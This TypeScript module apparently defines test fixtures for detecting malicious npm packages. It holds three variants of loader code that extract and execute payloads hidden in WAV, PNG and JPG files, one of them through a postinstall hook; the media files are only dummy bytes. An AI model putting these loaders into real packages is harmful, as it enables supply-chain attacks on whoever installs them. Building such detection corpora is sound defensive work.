import { type Campaign, entry, hex, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'media-payload',
  row: 'apicolor 2022 … telnyx 3/2026: payload in pictures and sounds (npm kin)',
  variants: [
    {
      concealment: 'plain',
      files: entry(
        `const fs = require('fs'), path = require('path');
const data = fs.readFileSync(path.join(__dirname, 'assets', 'ringtone.wav'));
const at = data.indexOf('data') + 8;
const out = [];
for (let i = at; i < data.length; i++) out.push(data[i] ^ 0x5a);
eval(Buffer.from(out).toString('utf8'));
module.exports = {};
`,
        { 'assets/ringtone.wav': new Uint8Array(256).fill(3) },
      ),
    },
    {
      concealment: 'obfuscated',
      files: entry(
        `const s = require('fs')['read' + 'FileSync'](__dirname + '/' + ['logo', 'png'].join('.'));
const t = s.subarray(s.lastIndexOf(Buffer.from('${hex('IEND')}', 'hex')) + 8).toString('latin1');
require('vm').runInNewContext(Buffer.from(t, 'base64').toString(), { require });
module.exports = {};
`,
        { 'logo.png': new Uint8Array(256).fill(9) },
      ),
    },
    {
      concealment: 'moved',
      files: scripted(
        { postinstall: 'node tools/prepare.js' },
        {
          'tools/prepare.js': `const fs = require('fs');
const pixels = fs.readFileSync(__dirname + '/../docs/banner.jpg');
let bits = '', text = '';
for (const b of pixels) bits += b & 1;
for (let i = 0; i + 8 <= bits.length; i += 8) text += String.fromCharCode(parseInt(bits.slice(i, i + 8), 2));
new Function('require', text)(require);
`,
          'docs/banner.jpg': new Uint8Array(512).fill(4),
        },
      ),
    },
  ],
};
